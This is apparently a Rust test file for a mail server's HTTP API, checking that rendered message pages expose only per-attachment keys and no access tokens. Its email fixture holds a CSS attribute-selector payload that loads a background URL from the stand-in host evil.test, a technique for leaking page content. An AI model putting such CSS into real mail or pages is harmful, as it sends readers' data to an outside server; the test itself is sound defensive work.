//! Hostile mail, hostile pages and hostile clients against the HTTP port.

use mailroom::inbound::config::AccessMode;
use serde_json::json;

use crate::support::api::Answer;
use crate::support::{Api, TestServer, message};

/// Two pictures, and a page that shows the first.
const PICTURES: &str = "From: a@b.test\r\nTo: own@mailroom.test\r\nSubject: pictures\r\nMIME-Version: 1.0\r\n\
    Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n\
    <style>img[src*=\"ab\"]~p{background:url(http://evil.test/ab)}</style><img src=\"cid:one\"><p>text</p>\r\n\
    --x\r\nContent-Type: image/png\r\nContent-ID: <one>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n\
    --x\r\nContent-Type: audio/mpeg; name=a.mp3\r\nContent-Disposition: attachment\r\n\r\nxx\r\n--x--\r\n";

async fn only(api: &Api, mailbox: &str) -> String {
    let list = api.json(&format!("/v1/mailboxes/{mailbox}/messages")).await;
    list["items"][0]["id"].as_str().unwrap().to_owned()
}

/// A server that asks for tokens, with a mailbox, its token and the path of a message with pictures in it.
async fn with_pictures() -> (TestServer, String, String) {
    let server = TestServer::with(|config| config.mailboxes.access = AccessMode::Token).await;
    let made = server.api().post("/v1/mailboxes", json!({"address": "own@mailroom.test"})).await.json();
    let token = made["token"].as_str().unwrap().to_owned();
    server.deliver("own@mailroom.test", PICTURES).await;
    let id = only(&server.api().with_token(&token), "own@mailroom.test").await;
    let base = format!("/v1/mailboxes/own@mailroom.test/messages/{id}");
    (server, token, base)
}

fn status(answer: &Answer) -> u16 {
    answer.status.as_u16()
}

#[actix_web::test]
async fn a_page_holds_a_key_to_its_own_attachments_and_never_a_token() {
    let (server, token, base) = with_pictures().await;
    let stranger = server.api();
    let page = stranger.get(&format!("{base}/html?token={token}&remote=1")).await;
    assert!(!page.text().contains("mrt_"), "{}", page.text());
    let (_, after) =
        page.text().split_once(&format!("{base}/attachments/0?key=")).map(|(a, b)| (a.len(), b.to_owned())).unwrap();
    let key = after.split('"').next().unwrap().to_owned();
    let by_header = stranger.with_token(&token).get(&format!("{base}/html")).await;
    assert!(by_header.text().contains(&key), "however the reader was known");

    let picture = stranger.get(&format!("{base}/attachments/0?key={key}")).await;
    assert_eq!((status(&picture), picture.body.as_slice()), (200, &b"\x89PNG\r\n\x1a\n"[..]));
    assert_eq!(
        status(&stranger.call(awc::http::Method::HEAD, &format!("{base}/attachments/0?key={key}"), &[], None).await),
        200
    );
    // Nothing else: no source, no page, no message, no list, no change.
    for path in ["/raw", "/html", ""] {
        let answer = stranger.get(&format!("{base}{path}?key={key}")).await;
        assert!(matches!(status(&answer), 400 | 401), "{path}: {}", answer.text());
    }
    assert_eq!(status(&stranger.get(&format!("{base}/raw?token={key}")).await), 404);
    assert_eq!(status(&stranger.with_token(&key).get(&base).await), 404);
    assert_eq!(status(&stranger.delete(&format!("{base}/attachments/0?key={key}")).await), 405);

    server.deliver("own@mailroom.test", &message("another", "text")).await;
    let other = only(&stranger.with_token(&token), "own@mailroom.test").await;
    let wrong =
        stranger.get(&format!("/v1/mailboxes/own@mailroom.test/messages/{other}/attachments/0?key={key}")).await;
    assert_eq!(status(&wrong), 404);
    assert!(wrong.text().contains("no-such-mailbox"), "{}", wrong.text());
    let altered = format!("{base}/attachments/0?key={}", key.replacen('1', "2", 1));
    assert_eq!(status(&stranger.get(&altered).await), 404);

    // A page that a browser kept is not used beyond its keys.
    let etag = page.header("etag").unwrap().to_owned();
    let again = format!("{base}/html?token={token}&remote=1");
    assert_eq!(status(&stranger.call(awc::http::Method::GET, &again, &[("if-none-match", &etag)], None).await), 304);
    let server = server.restart().await;
    let answer = server.api().call(awc::http::Method::GET, &again, &[("if-none-match", &etag)], None).await;
    assert_eq!(status(&answer), 200, "its keys ended with the process");
    server.stop().await;
}
